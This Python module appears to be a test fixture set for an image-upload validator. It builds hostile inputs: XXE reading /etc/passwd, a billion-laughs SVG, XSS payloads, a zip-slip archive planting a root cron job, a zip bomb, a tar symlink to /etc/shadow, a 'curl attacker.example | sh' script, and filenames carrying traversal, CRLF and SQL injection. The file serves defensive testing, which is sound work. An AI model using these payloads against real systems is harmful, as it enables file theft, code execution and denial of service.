"""Files that are no pictures at all, and names that mean to be paths."""

import io
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from types import MappingProxyType

from anzhu.ops.bench.hostile import good

_MIB = 1024 * 1024
#: The string that every scanner must know, in two parts so that none finds this very file.
_EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def nothing() -> bytes:
    return b""


def huge_and_empty() -> bytes:
    """More than is taken; of a sparse file nothing but zeros would arrive."""
    return b"\xff\xd8\xff" + bytes(21 * _MIB)


def eicar() -> bytes:
    return _EICAR


def eicar_behind_a_picture() -> bytes:
    return good.jpeg() + _EICAR


def svg_with_entities() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>'
    return f'{head}<svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>'.encode()


def svg_with_a_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def xml_that_reads_files() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def html() -> bytes:
    return b"<!doctype html><script>alert(1)</script>"


def gif_and_script() -> bytes:
    return b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"


def program() -> bytes:
    return b"MZ\x90\0" + bytes(500)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl attacker.example | sh\n"


def zip_that_climbs() -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        archive.writestr("../../../../etc/cron.d/evil", "* * * * * root sh")
    return kept.getvalue()


def zip_bomb() -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(64 * _MIB))
    return kept.getvalue()


def tar_with_a_link() -> bytes:
    kept = io.BytesIO()
    with tarfile.open(fileobj=kept, mode="w") as archive:
        link = tarfile.TarInfo("photo.jpg")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/shadow"
        archive.addfile(link)
    return kept.getvalue()


def noise() -> bytes:
    return bytes((n * n * 37 + n * 11) % 251 for n in range(20_000))


CLASSES: Mapping[str, Callable[[], bytes]] = MappingProxyType(
    {
        one.__name__: one
        for one in (
            nothing, huge_and_empty, eicar, eicar_behind_a_picture, svg_with_entities,
            svg_with_a_script, xml_that_reads_files, html, gif_and_script, program, shell_script,
            zip_that_climbs, zip_bomb, tar_with_a_link, noise,
        )
    }
)  # fmt: skip

#: Names of honest files: what is shown of each, and nothing of it is ever a path.
NAMES: Mapping[str, str] = MappingProxyType(
    {
        "../../../../etc/passwd.jpg": "passwd.jpg",
        "..\\..\\windows\\system32\\a.jpg": "a.jpg",
        "C:\\Users\\林\\合同.jpg": "合同.jpg",
        "/dev/null": "null",
        "photo\u202egpj.exe": "photogpj.exe",
        "\u2067合同\u2069.jpg": "合同.jpg",
        "a\0b.jpg": "ab.jpg",
        "a\r\nX-Evil: 1.jpg": "aX-Evil: 1.jpg",
        "长" * 300 + ".jpg": "长" * 75 + "….jpg",
        "": "文件",
        "...": "文件",
        "\u200b\u200b": "文件",
        "合同（最终版）.JPG": "合同（最终版）.JPG",
        "<img src=x onerror=alert(1)>.jpg": "<img src=x onerror=alert(1)>.jpg",
        "CON.jpg": "CON.jpg",
        "'; DROP TABLE files;--.jpg": "'; DROP TABLE files;--.jpg",
    }
)
